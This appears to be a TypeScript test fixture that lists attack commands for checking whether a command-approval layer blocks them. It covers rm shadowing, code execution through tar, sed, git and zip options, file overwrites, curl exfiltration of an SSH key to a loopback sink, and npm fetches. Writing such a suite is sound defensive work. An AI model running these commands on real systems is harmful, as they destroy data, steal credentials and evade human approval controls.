// The attacks of issue 10, as a paired phone would send them: one row per
// technique, each a command line against the temporary home `h`. A row is
// survived when the home is byte-for-byte unchanged, nothing was created,
// no connection reached the loopback sink and no package was fetched.

export interface Target {
  /** The temporary home (absolute). */
  h: string;
  /** Port of the loopback sink that must see no connection. */
  sink: number;
  /** Port of the registry stand-in that must see no request. */
  registry: number;
}

export interface Technique {
  kind: "shadowing" | "exec-option" | "overwrite" | "exfiltration" | "registry";
  name: string;
  command(t: Target): string;
}

const q = (s: string) => `'${s.replaceAll("'", "'\\''")}'`;

export const TECHNIQUES: readonly Technique[] = [
  { kind: "shadowing", name: "function shadows rm", command: ({ h }) => `rm() { command rm "$@"; }; rm -rf ${h}/dir` },
  {
    kind: "shadowing",
    name: "function behind a false &&",
    command: ({ h }) => `false && rm() { :; }; rm -rf ${h}/dir`,
  },
  { kind: "shadowing", name: "alias then newline", command: ({ h }) => `alias ls=${q(`rm -rf ${h}/dir`)}\nls` },
  { kind: "shadowing", name: "hash -p", command: ({ h }) => `hash -p /bin/rm ls; ls -rf ${h}/dir` },

  {
    kind: "exec-option",
    name: "tar --checkpoint-action",
    command: ({ h }) =>
      `tar -cf /dev/null ${h}/notes.txt --checkpoint=1 --checkpoint-action=exec=${q(`touch ${h}/pwned-tar`)}`,
  },
  {
    kind: "exec-option",
    name: "sed e command",
    command: ({ h }) => `sed -n ${q(`1e touch ${h}/pwned-sed`)} ${h}/notes.txt`,
  },
  {
    kind: "exec-option",
    name: "sed s///e",
    command: ({ h }) => `echo x | sed ${q(`s/x/touch ${h.replaceAll("/", "\\/")}\\/pwned-sede/e`)}`,
  },
  { kind: "exec-option", name: "man -P", command: ({ h }) => `man -P ${q(`touch ${h}/pwned-man`)} ls` },
  {
    kind: "exec-option",
    name: "zip -TT",
    command: ({ h }) => `zip -T -TT ${q(`touch ${h}/pwned-zip;true`)} /tmp/rt.zip ${h}/notes.txt`,
  },
  { kind: "exec-option", name: "rg --pre", command: ({ h }) => `rg --pre ${h}/bin/hook.sh marks ${h}/notes.txt` },
  {
    kind: "exec-option",
    name: "GIT_PAGER",
    command: ({ h }) => `GIT_PAGER=${q(`touch ${h}/pwned-gitpager`)} git -C ${h}/repo log`,
  },
  {
    kind: "exec-option",
    name: "git -c core.pager",
    command: ({ h }) => `git -C ${h}/repo -c core.pager=${q(`touch ${h}/pwned-corepager`)} log`,
  },
  {
    kind: "exec-option",
    name: "git diff.external",
    command: ({ h }) => `git -C ${h}/repo -c diff.external=${q(`${h}/bin/hook.sh`)} diff HEAD~1 HEAD`,
  },
  {
    kind: "exec-option",
    name: "git rebase -x",
    command: ({ h }) => `git -C ${h}/repo rebase -x ${q(`touch ${h}/pwned-rebase`)} HEAD~1`,
  },
  {
    kind: "exec-option",
    name: "git bisect run",
    command: ({ h }) =>
      `git -C ${h}/repo bisect start HEAD HEAD~1 && git -C ${h}/repo bisect run touch ${h}/pwned-bisect`,
  },
  {
    kind: "exec-option",
    name: "git submodule foreach",
    command: ({ h }) => `git -C ${h}/repo submodule foreach ${q(`touch ${h}/pwned-submodule`)}`,
  },

  { kind: "overwrite", name: ": > f", command: ({ h }) => `: > ${h}/data.txt` },
  { kind: "overwrite", name: "> f", command: ({ h }) => `> ${h}/data.txt` },
  { kind: "overwrite", name: "tee f", command: ({ h }) => `echo gone | tee ${h}/data.txt` },
  { kind: "overwrite", name: "cp /dev/null f", command: ({ h }) => `cp /dev/null ${h}/data.txt` },
  { kind: "overwrite", name: "mv f g", command: ({ h }) => `mv ${h}/data.txt ${h}/moved.txt` },
  { kind: "overwrite", name: "ln -sf", command: ({ h }) => `ln -sf /dev/null ${h}/data.txt` },
  { kind: "overwrite", name: "chmod 000 f", command: ({ h }) => `chmod 000 ${h}/data.txt` },
  { kind: "overwrite", name: "sort -o f", command: ({ h }) => `sort -o ${h}/data.txt ${h}/notes.txt` },
  { kind: "overwrite", name: "install … f", command: ({ h }) => `install -m 644 /dev/null ${h}/data.txt` },
  { kind: "overwrite", name: "gzip -f f", command: ({ h }) => `gzip -f ${h}/data.txt` },
  { kind: "overwrite", name: "xxd -r … f", command: ({ h }) => `echo '00000000: 4142' | xxd -r - ${h}/data.txt` },

  {
    kind: "exfiltration",
    name: "curl -d secret",
    command: ({ h, sink }) => `curl -s -m 5 -d "$(cat ${h}/.ssh/id_rsa)" http://127.0.0.1:${sink}/`,
  },
  {
    kind: "exfiltration",
    name: "curl upload file",
    command: ({ h, sink }) => `curl -s -m 5 -T ${h}/secret http://127.0.0.1:${sink}/`,
  },

  {
    kind: "registry",
    name: "npm init x",
    command: ({ h, registry }) =>
      `cd ${h} && npm init x --yes --registry http://127.0.0.1:${registry}/ --cache ${h}/.npm-cache`,
  },
  {
    kind: "registry",
    name: "npm install x",
    command: ({ h, registry }) =>
      `cd ${h} && npm install x --registry http://127.0.0.1:${registry}/ --cache ${h}/.npm-cache`,
  },
];

/** Read-only commands that must run at once (no approval) and show their output on the phone. */
export const CONTROLS: readonly { command(t: Target): string; shows: RegExp }[] = [
  { command: ({ h }) => `ls -la ${h}`, shows: /notes\.txt/ },
  { command: ({ h }) => `cat ${h}/notes.txt`, shows: /x marks the spot/ },
  { command: ({ h }) => `grep x ${h}/notes.txt`, shows: /x marks the spot/ },
  { command: () => "ps aux", shows: /PID/ },
  { command: () => "df -h", shows: /Filesystem/ },
  { command: ({ h }) => `git -C ${h}/repo status`, shows: /On branch main/ },
  { command: ({ h }) => `git -C ${h}/repo log`, shows: /second commit/ },
];
